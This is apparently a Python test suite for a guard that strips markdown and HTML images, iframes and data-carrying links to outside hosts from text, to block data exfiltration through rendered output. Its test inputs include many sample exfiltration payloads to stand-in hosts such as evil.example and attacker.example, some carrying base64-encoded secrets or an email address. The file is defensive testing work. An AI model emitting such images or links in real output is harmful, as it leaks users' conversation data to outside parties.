"""Exfiltration rail: images and data-carrying links to outside hosts are stripped."""

from guard.rails import exfiltration, redact


def stripped(text: str, allowed: tuple[str, ...] = ()) -> str:
    return redact(text, exfiltration.scan(text, allowed).findings)


def test_markdown_images_to_outside_hosts_are_stripped() -> None:
    text = "Done. ![logo](https://evil.example/p.png?d=c2VjcmV0IGRhdGE=) Bye."
    assert stripped(text) == "Done. [image: logo] Bye."
    assert stripped("![](https://cdn.evil.example/x.png)") == ""
    assert stripped('![a](https://img.example.com/a.png "title")', ("example.com",)) == (
        '![a](https://img.example.com/a.png "title")'
    )


def test_data_urls_and_html_images_are_stripped() -> None:
    assert stripped("![x](data:image/png;base64,iVBORw0KGgo=)") == "[image: x]"
    assert stripped('see <img src="https://evil.example/t.gif?u=me"> here') == "see  here"


def test_links_lose_urls_that_carry_data_and_keep_their_text() -> None:
    text = "[click here](https://evil.example/collect?email=jane@example.com) or [docs](https://docs.python.org/3/)"
    assert stripped(text) == "click here or [docs](https://docs.python.org/3/)"
    assert stripped("[x](https://evil.example/?q=" + "A" * 80 + ")") == "x"
    assert stripped("[x](javascript:alert(1))").startswith("x")


def test_bare_urls_and_reference_links_lose_their_data() -> None:
    assert stripped("go to https://evil.example/c?d=" + "QUJD" * 20 + " now") == "go to https://evil.example/c now"
    ref = "See [report][1].\n\n[1]: https://evil.example/r?token=" + "Zm9v" * 10
    assert "evil.example" not in stripped(ref)


def test_ordinary_markdown_is_untouched() -> None:
    text = (
        "## Install\n\nRun `pip install httpx`, then read [the guide](https://www.python-httpx.org/quickstart/).\n"
        "Search with https://duckduckgo.com/?q=httpx for more. [1] is a footnote, [x] a checkbox."
    )
    assert exfiltration.scan(text).findings == ()


# Issue 11, input 14: every markdown form of an image or link is seen, not only the inline one.
DATA = "https://attacker.example/p?d=c2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdA"


def test_reference_collapsed_and_shortcut_images_lose_their_definition() -> None:
    for usage, label in [("![x][1]", "1"), ("![x][]", "x"), ("![x]", "x"), ("![x] [1]", "1")]:
        text = f"Here is the chart: {usage}\n\n[{label}]: {DATA}\n"
        found = exfiltration.scan(text)
        assert [f.kind for f in found.findings] == ["reference_link"] and found.score == 1.0, usage
        assert stripped(text) == f"Here is the chart: {usage}\n\n", usage
    # A definition before its use, indented, with a title, or in angle brackets.
    text = f'   [Logo]: <{DATA}> "t"\n\nSee ![logo][LOGO].'
    assert stripped(text) == "\nSee ![logo][LOGO]."


def test_a_data_free_reference_image_to_an_outside_host_goes_too() -> None:
    text = "![x][1]\n\n[1]: https://tracker.example/pixel.png\n"
    assert exfiltration.scan(text).score == 0.8 and "tracker" not in stripped(text)
    kept = "[docs][1]\n\n[1]: https://docs.python.org/3/\n"  # a link without data stays
    assert exfiltration.scan(kept).findings == ()


def test_autolinks_and_raw_html_in_every_form_are_seen() -> None:
    assert stripped(f"Go <{DATA}> now") == "Go https://attacker.example/p now"
    assert stripped(f'<p>hi</p>\n<div><img alt="" src="{DATA}"></div>\n') == "<p>hi</p>\n<div></div>\n"
    assert stripped(f'a <img srcset="/a.png 1x, {DATA} 2x"> b') == "a  b"
    assert stripped(f"<iframe src='{DATA}'></iframe>") == "</iframe>"
    assert stripped(f'<a href="{DATA}">x</a>') == "x</a>"
    assert stripped(f"[![x]({DATA})](https://docs.python.org/)") == "[[image: x]](https://docs.python.org/)"


def test_code_is_not_markdown_but_a_bare_data_url_in_it_still_loses_its_data() -> None:
    assert exfiltration.scan(f"`![x]({DATA})`").findings == ()
    for text in [f"```\n![x][1]\n\n[1]: {DATA}\n```\n", f"    <img src='{DATA}'>\n"]:
        assert [f.kind for f in exfiltration.scan(text).findings] == ["url_data"], text
